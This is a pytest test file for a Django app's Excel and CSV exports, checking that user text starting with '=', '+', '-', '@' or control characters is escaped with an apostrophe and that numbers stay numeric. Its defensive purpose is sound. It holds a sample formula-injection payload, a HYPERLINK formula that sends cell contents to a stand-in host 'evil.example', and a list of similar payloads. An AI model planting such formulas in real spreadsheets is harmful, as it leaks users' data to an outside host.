"""Formula injection: no user text becomes a formula in any Excel or CSV export; numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from susi.accounts.models import Role
from susi.evidence.models import MetaAnalysis, Study
from susi.som.models import Calculation, Outcome
from susi.web.spreadsheets import SafeWorkbook, safe_cell, safe_csv_writer
from tests.evidence.helpers import bcg_csv
from tests.evidence.test_evidence_pages import meta_url
from tests.som.conftest import client_for, knowledge, municipality_client  # noqa: F401 (fixtures)
from tests.som.test_calculator import form_post

ATTACK = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'
PAYLOADS = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Hjemløse", "", "1=1", " =1", 5, -5, -2.5, Decimal("-1.5"), None, True])
def test_everything_else_is_left_alone(value):
    assert safe_cell(value) is value


def test_a_lazy_text_is_escaped_too():
    assert safe_cell(gettext_lazy("=1+1")) == "'=1+1"


def test_the_workbook_writes_texts_as_text_and_numbers_as_numbers():
    buffer = io.BytesIO()
    book = SafeWorkbook(buffer)
    sheet = book.add_worksheet("Ark")
    sheet.write_row(0, 0, [ATTACK, -3.5, "https://evil.example", "-2"])
    sheet.write(1, 0, "@cmd")
    sheet.write_formula(2, 0, "=SUM(B1:B1)")  # the export's own formulas are written on purpose
    book.close()
    ws = load_workbook(io.BytesIO(buffer.getvalue()))["Ark"]
    assert [c.value for c in ws[1]] == ["'" + ATTACK, -3.5, "https://evil.example", "'-2"]
    assert [c.data_type for c in ws[1]] == ["s", "n", "s", "s"]
    assert ws["A1"].hyperlink is None and ws["C1"].hyperlink is None
    assert ws["A2"].value == "'@cmd"
    assert ws["A3"].value == "=SUM(B1:B1)" and ws["A3"].data_type == "f"


def test_the_csv_writer_escapes_every_cell():
    out = io.StringIO()
    writer = safe_csv_writer(out)
    writer.writerow(["navn", ATTACK, -1.25, 3])
    writer.writerows([["+x", "ok"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["navn", "'" + ATTACK, "-1.25", "3"], ["'+x", "ok"]]


def _formula_cells(book):
    return [
        (ws.title, c.coordinate, c.value)
        for ws in book
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _texts(book):
    return {c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_the_som_calculation_export(municipality_client):  # noqa: F811
    client = municipality_client
    data = form_post(
        client,
        **{"draws": "200", "name": ATTACK, "costs-1-name": "@SUM(1+1)", "costs-1-amount-value": "60000"},
    )
    assert client.post("/som/beregn/", data).status_code == 302
    calc = Calculation.objects.get()
    assert calc.name == ATTACK
    response = client.get(f"/som/beregning/{calc.pk}/excel/")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    # the only formulas are the export's own totals
    assert all(value.startswith("=SUM(") for _sheet, _cell, value in _formula_cells(book))
    texts = _texts(book)
    assert not any(t.startswith(("=HYPERLINK", "@")) for t in texts)
    assert any(ATTACK in t for t in texts)  # shown (in the title, after the calculation's own words)
    assert "'@SUM(1+1)" in texts
    values = load_workbook(io.BytesIO(response.content), data_only=True)["Resultat pr. år"]
    assert isinstance(values.cell(6, 2).value, float)  # amounts stay numbers


def test_the_knowledge_base_exports(client_for, knowledge):  # noqa: F811
    outcome = Outcome.objects.filter(target_group__organisation__isnull=True).first()
    outcome.name = ATTACK
    outcome.save()
    agency = client_for(Role.AGENCY)
    book = load_workbook(io.BytesIO(agency.get("/som/viden/eksport/").content))
    assert not _formula_cells(book)
    assert "'" + ATTACK in _texts(book)
    numbers = [c.value for ws in book for row in ws.iter_rows(min_row=2) for c in row]
    assert any(isinstance(v, float | int) and not isinstance(v, bool) for v in numbers)
    text = agency.get("/som/viden/eksport/?table=outcomes").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert any("'" + ATTACK in row for row in rows)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_the_evidence_exports(client, world):
    client.force_login(world.users[Role.AGENCY])
    quoted = '"' + ATTACK.replace('"', '""') + '"'
    data = bcg_csv().decode().replace("Trial 1,", f"{quoted},", 1).replace("Trial 2,", "-Trial 2,", 1)
    response = client.post(
        reverse("evidence:study_import"),
        {
            "intervention": world.own_initiative.intervention.pk,
            "outcome": "Tuberkulose",
            "measure": "RR",
            "design": "rct",
            "risk_of_bias": "low",
            "country": "US",
            "file": SimpleUploadedFile("bcg.csv", data.encode(), content_type="text/csv"),
        },
    )
    assert response.status_code == 302 and Study.objects.filter(label=ATTACK).exists()
    client.post(meta_url(world), {"save": "1", "title": "=1+1"})
    saved = MetaAnalysis.objects.get()
    for url in (
        reverse("evidence:study_export", args=["csv"]),
        reverse("evidence:meta_export", args=[saved.pk, "csv"]),
    ):
        rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert "'" + ATTACK in cells and "'-Trial 2" in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
        assert any(re.fullmatch(r"-?\d+(\.\d+)?", cell) for cell in cells)  # numbers are written bare
    for url in (
        reverse("evidence:study_export", args=["xlsx"]),
        reverse("evidence:meta_export", args=[saved.pk, "xlsx"]),
    ):
        book = load_workbook(io.BytesIO(client.get(url).content))
        assert not _formula_cells(book)
        assert {"'" + ATTACK, "'-Trial 2"} <= _texts(book)
        numbers = [c.value for ws in book for row in ws.iter_rows() for c in row if c.data_type == "n"]
        assert numbers and all(isinstance(v, int | float) for v in numbers)


def test_every_export_writes_through_the_safe_helpers():
    """A new export that opens its own csv.writer or XlsxWriter workbook would skip the escaping."""
    from pathlib import Path

    import susi

    # not exports: the outcomes import stages its own rows for the commit step; the demo writes a synthetic
    # import file; the engines write synthetic data sets for the command line
    internal = {
        Path("outcomes/importing.py"),
        Path("outcomes/demo.py"),
        Path("outcomes/chain_demo.py"),
        Path("web/spreadsheets.py"),
    }
    root = Path(susi.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.relative_to(root) not in internal
        and re.search(
            r"csv\.(writer|DictWriter)\(|xlsxwriter\.Workbook\(|\.to_(csv|excel)\(", path.read_text()
        )
        and "engines" not in path.relative_to(root).parts[:1]
    ]
    assert offenders == []


@pytest.mark.parametrize("text", PAYLOADS + ["'quoted", "Hjemløse", "'"])
def test_unescape_is_the_inverse_of_the_escape(text):
    from susi.web.spreadsheets import unescape_cell

    assert unescape_cell(safe_cell(text)) == text


def test_an_escaped_name_survives_the_knowledge_round_trip(client_for, knowledge):  # noqa: F811
    from susi.som import knowledge_io

    outcome = Outcome.objects.filter(target_group__organisation__isnull=True).first()
    outcome.name = "-Færre døgn på herberg"
    outcome.save()
    agency = client_for(Role.AGENCY)
    xlsx = agency.get("/som/viden/eksport/").content
    assert "'-Færre døgn på herberg" in _texts(load_workbook(io.BytesIO(xlsx)))
    knowledge_io.import_knowledge(knowledge.users[Role.AGENCY], xlsx, "export.xlsx")
    outcome.refresh_from_db()
    assert outcome.name == "-Færre døgn på herberg"


def test_an_escaped_study_label_survives_the_register_round_trip(client, world):
    client.force_login(world.users[Role.AGENCY])

    def upload(data: bytes):
        return client.post(
            reverse("evidence:study_import"),
            {
                "intervention": world.own_initiative.intervention.pk,
                "outcome": "Tuberkulose",
                "measure": "RR",
                "design": "rct",
                "risk_of_bias": "low",
                "country": "US",
                "file": SimpleUploadedFile("studier.csv", data, content_type="text/csv"),
            },
        )

    assert upload(bcg_csv().replace(b"Trial 2,", b"-Trial 2,", 1)).status_code == 302
    exported = client.get(reverse("evidence:study_export", args=["csv"])).content
    assert b"'-Trial 2" in exported
    Study.objects.all().delete()
    assert upload(exported).status_code == 302
    assert Study.objects.filter(label="-Trial 2").exists()
